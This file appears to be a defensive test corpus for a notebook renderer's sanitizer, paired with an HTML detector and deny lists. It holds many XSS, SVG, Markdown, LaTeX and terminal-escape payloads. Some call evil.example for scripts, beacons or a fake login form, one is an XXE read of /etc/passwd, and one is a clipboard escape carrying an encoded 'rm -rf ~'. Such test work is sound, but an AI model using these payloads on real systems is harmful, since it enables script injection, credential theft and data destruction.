"""Hostile payloads, by kind, and detectors that see the harm in each: with the defence off they must find it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

HTML = [
    # scripts, plainly and oddly
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script><script>alert(2)</script>",
    "<script/xss src='//evil.example/x.js'></script>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    "<script type='text/x-mathjax-config'>MathJax.Hub.Config({})</script>",
    "<<script>alert(1);//<</script>",
    "<b>x</b><script\n>alert(1)</script\n>",
    "<table><script>alert(1)</script></table>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea><script>alert(2)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<b onclick=alert(1)>click</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<video onloadstart=alert(1) src=x></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<p style='animation-name:x' onanimationstart=alert(1)>x</p>",
    "<div onpointerrawupdate=alert(1)>x</div>",
    "<a href='https://ok.example.org' onauxclick=alert(1)>x</a>",
    "<table onmousemove=alert(1)><tr><td>x</table>",
    "<span onwheel\x0c=alert(1)>x</span>",
    "<div onbeforetoggle=alert(1) popover id=p>x</div>",
    # links that run or lead astray
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    f"<a href='data:text/html;base64,{B64_SCRIPT}'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='http://evil.example/'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/lab/api/workspaces'>x</a>",
    "<a href='../api/contents'>x</a>",
    "<a href='https://127.0.0.1:8888/api'>x</a>",
    "<a href='https://localhost:8888/api/shutdown'>x</a>",
    "<a href='https://[::1]/'>x</a>",
    "<a href='https://2130706433/'>x</a>",
    "<a href='https://router.local/'>x</a>",
    "<a href='https://user:pass@evil.example/'>x</a>",
    "<a href='https://evil.example:8443/'>x</a>",
    "<a href='https://evil.example\\@ok.example.org/'>x</a>",
    "<a href='https://еvil.example/'>x</a>",
    "<a href='ssh://evil.example'>x</a>",
    "<a href='vscode://open?x'>x</a>",
    "<a href='tel:+1900'>x</a>",
    "<a href='#jupyter-config-data'>x</a>",
    "<a href='https://ok.example.org' target=_top>x</a>",
    "<a href='https://ok.example.org' ping='https://evil.example/ping'>x</a>",
    "<a href='https://ok.example.org' download=x>x</a>",
    "<map name=m><area shape=default href=javascript:alert(1)></map><img usemap=#m src=x>",
    # beacons
    "<img src=https://evil.example/beacon.png>",
    "<img src=//evil.example/beacon.png>",
    "<img src=/api/kernels>",
    "<img srcset='https://evil.example/1.png 1x' src=data:,>",
    "<img src='data:,' lowsrc=https://evil.example/>",
    "<picture><source srcset=https://evil.example/1.png><img></picture>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    f"<img src=data:text/html;base64,{B64_SCRIPT}>",
    f"<img src=data:image/png;base64,{B64_SCRIPT}>",
    "<table background=https://evil.example/x.png><tr><td>x</table>",
    "<td background=https://evil.example/x.png>x",
    "<body background=https://evil.example/x.png>",
    "<input type=image src=https://evil.example/x.png>",
    "<video poster=https://evil.example/x.png></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    "<div style=\"background:url('//evil.example/x.png')\">x</div>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>",
    "<blockquote cite=https://evil.example/>x</blockquote>",
    # taking over the page
    "<style>.jp-Button{display:none}</style>",
    "<div style='position:fixed;inset:0;z-index:9999'>your session has ended</div>",
    "<div class='jp-Dialog'>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<base target=_top>",
    "<form action=https://evil.example/><input name=password type=password><button>log in</button></form>",
    "<form action=/api/shutdown method=post><button>click</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset><iframe src=javascript:alert(1)>",
    "<object data=https://evil.example/x.swf></object>",
    f"<object data='data:text/html;base64,{B64_SCRIPT}'></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet><embed src=x>",
    "<portal src=https://evil.example/></portal><embed src=x>",
    "<dialog open><form method=dialog><button>ok</button></form></dialog>",
    # naming things that JupyterLab and scripts look for
    "<button data-commandlinker-command='gpumarket:rent' data-commandlinker-args='{}'>x</button>",
    "<b data-commandlinker-command=filebrowser:delete>x</b>",
    "<span data-jupyter-action=x>x</span>",
    '<div id=jupyter-config-data>{"token":"x"}</div>',
    "<img name=getElementById>",
    "<form id=test><input name=attributes></form>",
    "<a name=jupyter-config-data href=https://ok.example.org>x</a>",
    "<b slot=x part=y is=custom-x id=z>x</b>",
    "<div contenteditable id=a>x</div>",
    "<p class=MathJax_Display id=q>x</p>",
    "<b accesskey=x tabindex=1 onclick=alert(1)>x</b>",
    # other languages inside
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg><svg onload=alert(1)>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'></use></svg><svg onload=alert(1)>",
    "<svg><image href=https://evil.example/x.png></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    # mutation
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing><img src=x onerror=alert(2)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!> <img src=x onerror=alert(1)> --!>",
    "<? foo='><script>alert(1)</script>'>",
    "</ foo='><script>alert(1)</script>'>",
    "<a\x00 href=javascript:alert(1)>x</a>",
    "<img \x00src=x \x00onerror=alert(1)><script>1</script>",
    "<p/onclick=alert(1)//>x",
    "<style><style/><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<b title='\"><script>alert(1)</script>'>x</b><script>alert(1)</script>",
    "\u202e<b>txet desrever</b>",
    "<b>&#x202E;desrever</b>",
    "<b>a\u2066b</b>",
]

_PASSIVE = {
    "b",
    "i",
    "p",
    "td",
    "th",
    "tr",
    "table",
    "tbody",
    "thead",
    "span",
    "div",
    "img",
    "a",
    "small",
    "pre",
    "code",
}
_URLS = {"src", "href", "srcset", "action", "formaction", "poster", "background", "data", "cite", "ping", "lowsrc"}
_GOOD_LINK = re.compile(r"https://(?:[a-z0-9-]+\.)+(?!local)[a-z]{2,}(?:/[^\s]*)?\Z")
_GOOD_PICTURE = re.compile(r"data:image/(?:png|jpeg|gif);base64,(?:iVBOR|/9j/|R0lGOD)[A-Za-z0-9+/=]*\Z")
_BIDI = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _words(text: str) -> frozenset[str]:
    return frozenset(text.split())


class _Detector(HTMLParser):
    """What a cautious reader objects to in a piece of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE:
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            self._attribute(tag, name.replace("\x00", "").strip("/").lower(), value or "")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith(("on", "data-")) or "onerror" in name or name in FORBIDDEN:
            self.found.append(f"{tag} {name}")
        is_good = _GOOD_LINK.match(value) if tag == "a" else _GOOD_PICTURE.match(value)
        if name.rpartition(":")[2] in _URLS and not is_good:
            self.found.append(f"{tag} {name}={value[:40]}")

    def handle_data(self, data: str) -> None:
        if _BIDI.search(data):
            self.found.append("bidi")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl[:20]}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data[:20]}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data[:20]}")

    def handle_comment(self, data: str) -> None:
        self.found.append("comment")


ACTIVE = _words(
    """
    script style iframe frame frameset object embed applet base meta link form input button select textarea svg math
    video audio source template noscript portal marquee title xmp noembed plaintext isindex dialog map area body
    listing picture
    """
)
FORBIDDEN = _words(
    """
    style id class name slot is part contenteditable usemap target download ping srcset accesskey tabindex popover
    background cite lowsrc srcdoc formaction action
    """
)


def harms(html: str) -> list[str]:
    """What is wrong with a document, by an independent reader."""
    detector = _Detector()
    detector.feed(html.replace("\x00", ""))
    detector.close()
    return detector.found


SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
SVG = [
    f"{SVG_HEAD}<script>alert(1)</script></svg>",
    f'{SVG_HEAD}<script href="https://evil.example/x.js"/></svg>',
    f'{SVG_HEAD}<rect onclick="alert(1)"/></svg>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    f"{SVG_HEAD}<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>x</body></foreignObject></svg>",
    f'{SVG_HEAD}<image href="https://evil.example/x.png"/></svg>',
    f'{SVG_HEAD}<image xlink:href="file:///etc/passwd"/></svg>',
    f'{SVG_HEAD}<image href="data:image/svg+xml;base64,PHN2Zy8+"/></svg>',
    f'{SVG_HEAD}<use href="https://evil.example/x.svg#a"/></svg>',
    f'{SVG_HEAD}<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    f'{SVG_HEAD}<a href="https://evil.example/"><text>x</text></a></svg>',
    f'{SVG_HEAD}<animate attributeName="href" to="javascript:alert(1)"/></svg>',
    f'{SVG_HEAD}<set attributeName="onclick" to="alert(1)"/></svg>',
    f"{SVG_HEAD}<style>@import 'https://evil.example/x.css';</style></svg>",
    f"{SVG_HEAD}<style>rect{{fill:url(https://evil.example/x)}}</style></svg>",
    f'{SVG_HEAD}<rect style="fill:url(//evil.example/x)"/></svg>',
    f'{SVG_HEAD}<rect fill="url(https://evil.example/x#a)"/></svg>',
    f'{SVG_HEAD}<filter id="f"><feImage href="https://evil.example/x"/></filter></svg>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
    '<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    f'{SVG_HEAD}<g id="a"><use href="#a"/></g></svg>',
    f'{SVG_HEAD}<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g></svg>',
    SVG_HEAD
    + '<g id="l0"><rect/><rect/></g>'
    + "".join(f'<g id="l{n}">' + f'<use href="#l{n - 1}"/>' * 10 + "</g>" for n in range(1, 9))
    + "</svg>",
    f'{SVG_HEAD}<g xml:base="https://evil.example/"><use href="#a"/></g></svg>',
    f"{SVG_HEAD}<rect",
    SVG_HEAD + "<g>" * 1000 + "</g>" * 1000 + "</svg>",
    f"{SVG_HEAD}<iframe xmlns='http://www.w3.org/1999/xhtml' src='https://evil.example/'/></svg>",
]

# (what, text): escape sequences and characters that terminals or readers obey.
TEXT = {
    "title": "\x1b]0;owned\x07",
    "title with ST": "\x1b]2;owned\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "hidden link": "\x1b]8;;https://evil.example\x1b\\ok\x1b]8;;\x1b\\",
    "notification": "\x1b]9;done\x07",
    "iTerm file": "\x1b]1337;File=name=eA==:AAAA\x07",
    "colour query": "\x1b]4;0;?\x07",
    "device control": "\x1bP+q544e\x1b\\",
    "sixel": "\x1bPq#0;2;0;0;0\x1b\\",
    "application command": "\x1b_Gf=100;AAAA\x1b\\",
    "privacy message": "\x1b^x\x1b\\",
    "start of string": "\x1bXx\x1b\\",
    "clear screen": "\x1b[2J",
    "clear line": "\x1b[2K",
    "cursor up": "\x1b[5A",
    "cursor to": "\x1b[1;1H",
    "scroll region": "\x1b[1;5r",
    "alternate screen": "\x1b[?1049h",
    "hide cursor": "\x1b[?25l",
    "mouse reports": "\x1b[?1000h",
    "bracketed paste": "\x1b[?2004l",
    "device status": "\x1b[6n",
    "device attributes": "\x1b[c",
    "window report": "\x1b[21t",
    "insert lines": "\x1b[9L",
    "print": "\x1b[5i",
    "reset": "\x1bc",
    "charset": "\x1b(0",
    "save cursor": "\x1b7",
    "index up": "\x1bM",
    "single byte CSI": "\x9b2J",
    "single byte OSC": "\x9d0;owned\x9c",
    "single byte DCS": "\x90q\x9c",
    "bell": "\x07",
    "backtab": "\x0b",
    "form feed": "\x0c",
    "shift out": "\x0e",
    "answerback": "\x05",
    "delete": "\x7f",
    "nul": "\x00",
    "right to left override": "\u202eexe.txt",
    "isolate": "\u2066x\u2069",
    "arabic letter mark": "\u061c",
    "line separator": "\u2028",
    "tag characters": "\U000e0041\U000e0042",
    "byte order mark": "\ufeff",
    "lone surrogate": "\ud800",
    "unfinished": "\x1b[",
    "over-long SGR": "\x1b[" + "1;" * 100 + "m",
    "conceal": "\x1b[8mhidden\x1b[0m",
    "blink": "\x1b[5mhidden",
    "conceal among others": "\x1b[1;8;31mhidden",
    "SGR with a private mark": "\x1b[>4;2m",
    "nested": "\x1b[\x1b[31m2J",
    "cancelled": "\x1b[2\x18J",
}

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](https://evil.example)",
    "[x] (javascript:alert(1))",
    "![x](https://evil.example/beacon.png)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "https://evil.example/",
    "www.evil.example",
    "someone@evil.example",
    "[^1]\n\n[^1]: note",
    "```mermaid\ngraph TD\n click A callback\n```",
    "~~~mermaid\ngraph TD\n~~~",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\style{background:url(https://evil.example)}{x}$$",
    "[x](attachment:evil)",
]
LATEX = [
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)}$",
    "$\\class{jp-Dialog}{x}$",
    "$\\cssId{jupyter-config-data}{x}$",
    "$\\style{position:fixed}{x}$",
    "$\\data{commandlinker-command=x}{x}$",
    "$\\htmlData{commandlinker-command=x}{x}$",
    "$\\require{html}\\href{javascript:alert(1)}{x}$",
    "$\\unicode[serif]{x41}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\newcommand{\\a}{\\a}\\a$",
    "$\\let\\frac\\href\\frac{javascript:alert(1)}{x}$",
    "$\\mmlToken{mi}[href='javascript:alert(1)']{x}$",
    "$\\bbox[background:url(https://evil.example)]{x}$",
    "$\\csname href\\endcsname{javascript:alert(1)}{x}$",
    "$\\begin{evil}x\\end{evil}$",
    "$\\begin %\n{align}x\\end{align}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$" + "{" * 1000 + "}" * 1000 + "$",
    "$\\frac" * 20000,
]
